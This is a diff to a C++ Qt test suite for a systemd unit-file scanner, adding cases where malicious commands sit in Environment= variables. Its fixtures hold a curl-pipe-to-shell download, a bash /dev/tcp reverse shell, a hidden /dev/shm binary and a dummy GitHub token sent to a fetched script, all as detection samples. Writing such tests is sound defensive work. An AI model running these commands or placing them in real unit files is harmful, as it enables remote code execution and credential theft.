@@ -89,6 +89,7 @@ private slots:
     void packagedUnitsHaveNoFindings();
     void detections_data();
     void detections();
+    void variablesInTheFinding();
     void howSettingsAreRead();
     void secretsNeverReachTheCase();
     void emptyAndUnusable();
@@ -460,6 +461,28 @@ void TestSystemdUnitImporter::detections_data()
                                                    "sh'")
                                      << user << QStringList{dl, one};
 
+    // What a command does with the unit's variables in, as systemd runs it.
+    QTest::newRow("payload in a variable") << QByteArray("[Service]\nEnvironment=\"RUN=curl -s http://203.0.113.7/x | "
+                                                         "sh\"\nExecStart=/bin/sh -c \"$RUN\"")
+                                           << system << QStringList{dl};
+    QTest::newRow("variable set after the command")
+        << QByteArray("[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/${C2}/443 0>&1'\n"
+                      "Environment=C2=203.0.113.7")
+        << system << QStringList{rs};
+    QTest::newRow("program in a variable") << QByteArray("[Service]\nEnvironment=BIN=/dev/shm/.x/kworker\n"
+                                                         "ExecStart=${BIN} --daemon")
+                                           << system << QStringList{tmp};
+    QTest::newRow("found by its own words once") << QByteArray("[Service]\nEnvironment=U=http://203.0.113.7/i\n"
+                                                               "ExecStart=/bin/sh -c 'curl -s $U | sh'")
+                                                 << system << QStringList{dl};
+    QTest::newRow("$$ is a dollar") << QByteArray("[Service]\nEnvironment=RUN=/dev/shm/x\n"
+                                                  "ExecStart=/usr/bin/printf '%s' $$RUN")
+                                    << system << none;
+    QTest::newRow("a harmless variable") << QByteArray("[Service]\nEnvironment=OPTS=--port=8080\n"
+                                                       "ExecStart=/usr/bin/app $OPTS")
+                                         << system << none;
+    QTest::newRow("an unknown variable") << QByteArray("[Service]\nExecStart=/bin/sh -c \"$RUN\"") << system << none;
+
     // Look-alikes: no finding.
     QTest::newRow("curl health check") << QByteArray("[Service]\nExecStart=/usr/bin/curl -fsS https://hc.example/ping")
                                        << system << none;
@@ -499,6 +522,33 @@ void TestSystemdUnitImporter::detections()
     found.sort();
     rules.sort();
     QCOMPARE(found, rules);
+}
+
+void TestSystemdUnitImporter::variablesInTheFinding()
+{
+    // Found on the command's line, the command shown with its variables in, a
+    // credential's as the resource keeps it: its fingerprint.
+    const QByteArray token = "ghp_" + QByteArray(36, 'Q').replace(7, 5, "a1b2c");
+    const MemoryImport m = runBytes("[Unit]\nDescription=metrics push\n[Service]\n"
+                                    "Environment=GITHUB_TOKEN=" +
+                                        token +
+                                        " \"RUN=curl -s http://203.0.113.7/i.sh | sh -s -- --token\"\n"
+                                        "ExecStart=/bin/sh -c \"$RUN $GITHUB_TOKEN\"\n",
+                                    QStringLiteral("etc/systemd/system/push.service"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.out.findings.size(), size_t(1));
+    const Finding& f = m.out.findings.front();
+    QCOMPARE(f.ruleId, QStringLiteral("node.systemd.download-exec"));
+    QCOMPARE(f.line, qint64(5));
+    QVERIFY2(f.detail.contains(QStringLiteral("ExecStart= on line 5 of /etc/systemd/system/push.service, with its "
+                                              "variables: /bin/sh -c \"curl -s http://203.0.113.7/i.sh | sh -s -- "
+                                              "--token ")),
+             qPrintable(f.detail));
+    QVERIFY2(f.detail.contains(QStringLiteral("sha256:")), qPrintable(f.detail));
+    for (const Finding& g : m.out.findings)
+        QVERIFY(!g.detail.contains(QString::fromLatin1(token)));
+    for (const auto& r : m.out.resources)
+        QVERIFY(!r.body.contains(QString::fromLatin1(token)));
 }
 
 void TestSystemdUnitImporter::howSettingsAreRead()
